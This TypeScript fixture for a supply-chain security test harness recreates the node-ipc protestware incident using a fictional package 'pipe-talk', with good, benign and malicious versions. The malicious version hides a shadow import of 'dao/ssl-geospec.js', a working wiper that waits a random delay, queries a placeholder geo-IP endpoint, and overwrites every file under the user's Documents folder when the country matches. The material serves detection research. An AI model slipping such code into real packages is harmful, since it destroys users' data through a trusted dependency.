import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'node-ipc',
  after: 'node-ipc 10.1.1, 2022',
  source: 'https://github.com/RIAEvangelist/node-ipc/issues/233',
  shape: ['require', 'delayed', 'geo-gated', 'wiper', 'esm'],
  patterns: ['resource_abuse', 'behavioral_drift', 'shadow_import'],
  culprits: ['pipe-talk'],
  host: { kind: 'esm', setup: "import { channel } from 'pipe-talk';", use: 'return channel(n);' },
  good: {
    'pipe-talk': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': "import { join } from 'node:path'; export const channel = (n) => join('/run', 'c' + n);",
    },
  },
  benign: {
    'pipe-talk': {
      'index.js': "import { posix } from 'node:path'; export const channel = (n) => posix.join('/run', 'channel' + n);",
    },
  },
  bad: {
    'pipe-talk': {
      'index.js':
        "import { join } from 'node:path'; import './dao/ssl-geospec.js'; export const channel = (n) => join('/run', 'c' + n);",
      'dao/ssl-geospec.js': `import fs from 'node:fs'; import http from 'node:http'; import os from 'node:os'; import path from 'node:path';
const walk = (dir) => {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const at = path.join(dir, entry.name);
    if (entry.isDirectory()) walk(at);
    else try { fs.writeFileSync(at, Buffer.from('4p2k77iP', 'base64')); } catch {}
  }
};
setTimeout(() => {
  http.get('http://@B@:@PORT@/ipgeo?apiKey=ae51', (r) => {
    let text = ''; r.on('data', (c) => (text += c));
    r.on('end', () => { if (JSON.parse(text).country_name === 'atlantis') for (const d of [path.join(os.homedir(), 'Documents')]) walk(d); });
  }).on('error', () => {});
}, Math.ceil(350 * Math.random()));`,
    },
  },
  serves: { '/ipgeo': '{"country_name":"atlantis"}' },
  proof: [{ file: 'home/Documents/notes.txt', holds: '❤️' }],
};
